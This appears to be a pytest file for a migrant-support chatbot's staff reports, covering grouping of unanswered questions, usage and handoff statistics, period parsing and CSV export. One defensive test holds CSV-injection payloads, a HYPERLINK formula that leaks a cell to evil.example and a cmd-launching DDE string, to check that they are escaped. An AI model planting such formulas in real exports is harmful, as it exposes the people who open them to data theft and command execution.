"""Reports for staff: unanswered questions grouped for content editors, usage figures, and the
`migrant-bot report` command, on SQLite and PostgreSQL alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from bot.cli.main import main
from bot.cli.report import spreadsheet_safe
from bot.conversation import Conversation
from bot.dialog.events import Command, CommandEvent, Incoming, TextEvent
from bot.reports import BadPeriod, parse_period, since_ago
from bot.reports.stats import percentile, usage_stats
from bot.reports.unanswered import (
    DELETED_TEXT,
    QuestionGroup,
    format_top_unanswered,
    top_unanswered,
    unanswered_groups,
)
from bot.storage.database import upgrade
from bot.storage.models import ConversationEvent, Person, Ticket, UnansweredQuestion
from bot.storage.store import Store
from bot.understanding.normalize import fold

NOW = dt.datetime(2026, 12, 1, 18, 0, tzinfo=dt.UTC)
WEEK_AGO = NOW - dt.timedelta(days=7)
MEXICO = dt.timezone(dt.timedelta(hours=-6), "CST")


def _people(session: Session, *user_ids: int) -> None:
    for user_id in user_ids:
        if session.get(Person, user_id) is None:
            session.add(Person(user_id=user_id, first_seen=WEEK_AGO, last_seen=NOW))
    session.flush()


def _unanswered(
    store: Store, rows: list[tuple[str, str | None]], at: dt.datetime = NOW, user: int = 1
) -> None:
    with store.session() as session, session.begin():
        _people(session, user)
        for language, text in rows:
            session.add(UnansweredQuestion(user_id=user, at=at, language=language, text=text))


def _event(
    session: Session, user: int, at: dt.datetime, language: str | None, intent: str | None = None
) -> None:
    _people(session, user)
    session.add(
        ConversationEvent(
            user_id=user, at=at, direction="in", kind="text", language=language, intent=intent
        )
    )


def _ticket(
    session: Session,
    user: int,
    opened: dt.datetime,
    reason: str = "asked",
    urgent: bool = False,
    wait_minutes: float | None = None,
    rating: str | None = None,
) -> None:
    _people(session, user)
    reply = opened + dt.timedelta(minutes=wait_minutes) if wait_minutes is not None else None
    session.add(
        Ticket(
            user_id=user,
            language="es",
            reason=reason,
            urgent=urgent,
            status="closed",
            opened_at=opened,
            first_reply_at=reply,
            rating=rating,
        )
    )


# -- unanswered questions -----------------------------------------------------------------


def test_similar_questions_fall_in_one_group_and_languages_stay_apart(
    database: Engine, store: Store
) -> None:
    _unanswered(
        store,
        [
            ("es", "¿Cuándo abren la frontera?"),
            ("es", "cuando abren la frontera"),
            ("es", "kuando abren la frontera!!"),
            ("es", "abren la frontera cuando"),
            ("es", "necesito un abogado"),
            ("en", "when does the border open"),
            ("en", "when does the border open??"),
        ],
    )
    groups = unanswered_groups(database, WEEK_AGO)
    assert [(g.language, g.count) for g in groups] == [("es", 4), ("en", 2), ("es", 1)]
    assert groups[0].example in {"¿Cuándo abren la frontera?", "cuando abren la frontera"}
    assert groups[2].example == "necesito un abogado"


def test_the_example_is_the_commonest_wording_of_the_group(database: Engine, store: Store) -> None:
    _unanswered(store, [("fr", "ou est le consulat d haiti"), ("fr", "ou est le consulat")])
    _unanswered(store, [("fr", "Où est le consulat ?")] * 2)
    [group] = unanswered_groups(database, WEEK_AGO)
    assert (group.count, group.example) == (4, "Où est le consulat ?")


def test_a_single_word_does_not_swallow_the_questions_that_contain_it(
    database: Engine, store: Store
) -> None:
    _unanswered(store, [("es", "visa"), ("es", "como saco la visa humanitaria en tapachula")])
    assert [g.count for g in unanswered_groups(database, WEEK_AGO)] == [1, 1]


def test_texts_deleted_after_retention_count_as_one_group_per_language(
    database: Engine, store: Store
) -> None:
    _unanswered(store, [("ht", None), ("ht", None), ("es", None), ("ht", "kote konsila a ye")])
    groups = unanswered_groups(database, WEEK_AGO)
    assert [(g.language, g.count, g.label) for g in groups] == [
        ("ht", 2, DELETED_TEXT),
        ("es", 1, DELETED_TEXT),
        ("ht", 1, "kote konsila a ye"),
    ]


def test_since_leaves_out_older_questions(database: Engine, store: Store) -> None:
    _unanswered(store, [("en", "old question about pizza")], at=WEEK_AGO - dt.timedelta(hours=1))
    _unanswered(store, [("en", "new question about pizza")], at=WEEK_AGO + dt.timedelta(hours=1))
    [group] = unanswered_groups(database, WEEK_AGO)
    assert (group.count, group.example) == (1, "new question about pizza")
    # A bound in another time zone means the same moment.
    assert unanswered_groups(database, (WEEK_AGO + dt.timedelta(hours=2)).astimezone(MEXICO)) == []


def test_what_the_bot_failed_to_answer_in_a_conversation_is_reported(
    conversation: Conversation, database: Engine
) -> None:
    upgrade(database)
    said = [
        (1, "en", "where can I buy a guitar"),
        (2, "en", "Where can i buy a guitar??"),
        (3, "es", "cual es la mejor pizza"),
        (4, "es", "hola"),  # answered: not on the list
    ]
    for user, language, text in said:
        conversation.handle(Incoming(user, TextEvent(text), language, at=NOW))
    groups = unanswered_groups(database, WEEK_AGO)
    assert [(g.language, g.count) for g in groups] == [("en", 2), ("es", 1)]
    assert fold(groups[0].label) == "where can i buy a guitar"


def test_top_unanswered_keeps_the_biggest_groups_for_the_staff_group(
    database: Engine, store: Store
) -> None:
    _unanswered(store, [("es", "donde cambio dolares")] * 3 + [("en", "is there wifi")] * 2)
    _unanswered(store, [("ht", "ki lè bis la pati")])
    top = top_unanswered(database, WEEK_AGO, limit=2)
    assert [(g.language, g.count) for g in top] == [("es", 3), ("en", 2)]
    message = format_top_unanswered(top, WEEK_AGO.astimezone(MEXICO))
    assert message.splitlines() == [
        "Unanswered questions since 2026-11-24 12:00, biggest first:",
        "3× [es] donde cambio dolares",
        "2× [en] is there wifi",
    ]


def test_the_staff_message_stays_short_and_says_when_there_is_nothing() -> None:
    long = QuestionGroup("es", 1, "necesito ayuda " * 40)
    [_, line] = format_top_unanswered([long], NOW).splitlines()
    assert len(line) < 110 and line.endswith("…")
    assert format_top_unanswered([], NOW) == "No unanswered questions since 2026-12-01 18:00."


# -- usage figures ------------------------------------------------------------------------


def test_stats_count_people_and_messages_per_day_in_the_ngo_time_zone(
    database: Engine, store: Store
) -> None:
    day = dt.datetime(2026, 11, 30, 15, 0, tzinfo=dt.UTC)
    with store.session() as session, session.begin():
        _event(session, 1, day, "es", "greeting")
        _event(session, 1, day + dt.timedelta(hours=1), "es", "cbp_one_status")
        _event(session, 2, day, "ht", "cbp_one_status")
        _event(session, 2, day + dt.timedelta(hours=12), "ht", None)  # 03:00 UTC, 21:00 CST
        _event(session, 3, WEEK_AGO - dt.timedelta(days=1), "en", "greeting")  # too old
    stats = usage_stats(database, WEEK_AGO, zone=MEXICO)
    assert (stats.total.conversations, stats.total.messages) == (2, 4)
    assert [(u.key, u.conversations, u.messages) for u in stats.per_day] == [("2026-11-30", 2, 4)]
    in_utc = usage_stats(database, WEEK_AGO)
    assert [(u.key, u.messages) for u in in_utc.per_day] == [
        ("2026-11-30", 3),
        ("2026-12-01", 1),
    ]
    assert [(u.key, u.conversations, u.messages) for u in stats.per_language] == [
        ("es", 1, 2),
        ("ht", 1, 2),
    ]
    assert [(i.intent, i.messages) for i in stats.top_intents] == [
        ("cbp_one_status", 2),
        ("greeting", 1),
    ]


def test_stats_measure_handoffs_waits_and_ratings(database: Engine, store: Store) -> None:
    opened = NOW - dt.timedelta(days=2)
    with store.session() as session, session.begin():
        for user, minutes in enumerate([1, 2, 3, 4, 10], start=1):
            _ticket(session, user, opened, wait_minutes=minutes, rating="up" if user < 4 else None)
        _ticket(session, 6, opened, "emergency", urgent=True, rating="down")  # no reply yet
        _ticket(session, 7, opened, "not_understood")
        _ticket(session, 8, WEEK_AGO - dt.timedelta(days=1), wait_minutes=600, rating="down")
    stats = usage_stats(database, WEEK_AGO)
    assert [(h.reason, h.tickets, h.urgent) for h in stats.handoffs] == [
        ("asked", 5, 0),
        ("emergency", 1, 1),
        ("not_understood", 1, 0),
    ]
    assert (stats.tickets, stats.urgent) == (7, 1)
    assert stats.waits.answered == 5
    assert stats.waits.median == dt.timedelta(minutes=3)
    assert stats.waits.p90 == dt.timedelta(minutes=7.6)  # 4 + 0.6 × (10 - 4)
    assert (stats.ratings.up, stats.ratings.down, stats.ratings.up_share) == (3, 1, 0.75)


def test_a_real_handoff_shows_in_the_stats(conversation: Conversation, database: Engine) -> None:
    conversation.handle(Incoming(1, CommandEvent(Command.HUMAN), "es", at=NOW))
    desk = conversation.desk
    ticket = desk.open_ticket_of(1)
    assert ticket is not None
    desk.note_operator_reply(ticket.id, 9, "Ana", NOW + dt.timedelta(minutes=5))
    desk.close(ticket.id, NOW + dt.timedelta(minutes=30))
    desk.rate(ticket.id, 1, "up")
    stats = usage_stats(database, WEEK_AGO)
    assert [(h.reason, h.tickets) for h in stats.handoffs] == [("asked", 1)]
    assert stats.waits.median == stats.waits.p90 == dt.timedelta(minutes=5)
    assert stats.ratings.up_share == 1.0 and stats.total.messages == 1


def test_an_empty_period_has_no_figures_rather_than_zeros(database: Engine, store: Store) -> None:
    stats = usage_stats(database, NOW)
    assert stats.per_day == () and stats.handoffs == ()
    assert stats.waits.median is None and stats.ratings.up_share is None


def test_percentiles_interpolate_between_ranks() -> None:
    minutes = [dt.timedelta(minutes=m) for m in (1, 2, 3, 4)]
    assert percentile(minutes, 0.5) == dt.timedelta(minutes=2.5)
    assert percentile(minutes[:1], 0.9) == dt.timedelta(minutes=1)
    assert percentile([], 0.5) is None


# -- periods ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "period"),
    [("7d", dt.timedelta(days=7)), ("12h", dt.timedelta(hours=12)), (" 2W ", dt.timedelta(14))],
)
def test_periods_are_read_in_hours_days_or_weeks(text: str, period: dt.timedelta) -> None:
    assert parse_period(text) == period


@pytest.mark.parametrize("bad", ["", "7", "0d", "-1d", "1.5d", "7 days", "d7", "9999999w"])
def test_unreadable_periods_are_refused(bad: str) -> None:
    with pytest.raises(BadPeriod):
        since_ago(bad, NOW)


def test_a_period_reaching_before_year_one_is_refused() -> None:
    with pytest.raises(BadPeriod, match="before the year 1"):
        since_ago("999999w", NOW)


# -- the command line ---------------------------------------------------------------------


@pytest.fixture
def cli_database(database: Engine, store: Store, monkeypatch: pytest.MonkeyPatch) -> Engine:
    """The test database, as DATABASE_URL for `migrant-bot`."""
    monkeypatch.setenv("DATABASE_URL", database.url.render_as_string(hide_password=False))
    monkeypatch.setenv("TIMEZONE", "UTC")
    return database


def _csv(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


def test_report_unanswered_csv_has_a_header_and_one_row_per_group(
    cli_database: Engine, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    recent = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
    _unanswered(
        store, [("es", "hay trabajo en tapachula"), ("es", "trabajo en tapachula")], recent
    )
    _unanswered(store, [("en", "wifi, password?")], recent)
    _unanswered(store, [("en", "too old")], recent - dt.timedelta(days=7))
    assert main(["report", "unanswered", "--csv"]) == 0
    assert _csv(capsys.readouterr().out) == [
        ["language", "count", "example"],
        ["es", "2", "hay trabajo en tapachula"],
        ["en", "1", "wifi, password?"],
    ]
    assert main(["report", "unanswered", "--since", "9d", "--csv"]) == 0
    assert len(_csv(capsys.readouterr().out)) == 4


def test_report_unanswered_csv_shows_formulas_as_text_not_live_formulas(
    cli_database: Engine, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    """OWASP CSV injection: a message a spreadsheet would run starts with an apostrophe."""
    messages = [
        '=HYPERLINK("http://evil.example/?d="&A1,"ver cita")',
        "+52 962 123 4567 llamen por favor",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3 cuanto cuesta el permiso",
        "hay trabajo en tapachula = sí",
    ]
    recent = dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    _unanswered(store, [("es", text) for text in messages], recent)
    assert main(["report", "unanswered", "--csv"]) == 0
    examples = {row[2] for row in _csv(capsys.readouterr().out)[1:]}
    assert examples == {"'" + text for text in messages[:-1]} | {messages[-1]}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_a_csv_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["hola", " =1", "", "a=1", 42, -3, 0.5])
def test_other_csv_cells_are_left_as_they_are(cell: object) -> None:
    assert spreadsheet_safe(cell) == cell


def test_report_unanswered_prints_a_readable_table(
    cli_database: Engine, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    _unanswered(store, [("ht", None)], dt.datetime.now(dt.UTC) - dt.timedelta(hours=1))
    assert main(["report", "unanswered", "--since", "2h"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("Unanswered questions since ") and lines[0].endswith(
        "1 in 1 groups"
    )
    assert lines[1].split() == ["lang", "count", "example"]
    assert lines[2].split(maxsplit=2) == ["ht", "1", DELETED_TEXT]


def test_a_bad_since_gives_one_error_line_and_exit_code_2(
    cli_database: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    for command in ("unanswered", "stats"):
        assert main(["report", command, "--since", "yesterday"]) == 2
        captured = capsys.readouterr()
        assert captured.out == ""
        [line] = captured.err.splitlines()
        assert "--since" in line and "'yesterday'" in line


def test_report_stats_csv_is_one_long_table_of_section_key_value(
    cli_database: Engine, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    recent = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
    with store.session() as session, session.begin():
        _event(session, 1, recent, "fr", "greeting")
        _event(session, 2, recent, "fr", None)
        _ticket(session, 1, recent, "emergency", urgent=True, wait_minutes=2, rating="up")
    assert main(["report", "stats", "--csv"]) == 0
    rows = _csv(capsys.readouterr().out)
    assert rows[0] == ["section", "key", "value"]
    table = {(section, key): value for section, key, value in rows[1:]}
    assert table[("summary", "conversations")] == "2"
    assert table[("summary", "median_wait_seconds")] == "120"
    assert table[("summary", "up_share")] == "1.0"
    assert table[("messages_per_language", "fr")] == "2"
    assert table[("messages_per_day", recent.date().isoformat())] == "2"
    assert table[("intent_messages", "greeting")] == "1"
    assert table[("urgent_tickets_by_reason", "emergency")] == "1"


def test_report_stats_on_an_empty_database_says_there_is_nothing_yet(
    cli_database: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "stats", "--since", "1w"]) == 0
    out = capsys.readouterr().out
    assert "0 conversations, 0 messages" in out
    assert "no ticket answered yet" in out and "Ratings: none yet" in out


def test_an_unreadable_database_gives_one_error_line_and_exit_code_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path}")  # a folder, not a file
    assert main(["report", "unanswered"]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("migrant-bot report: cannot read the database")
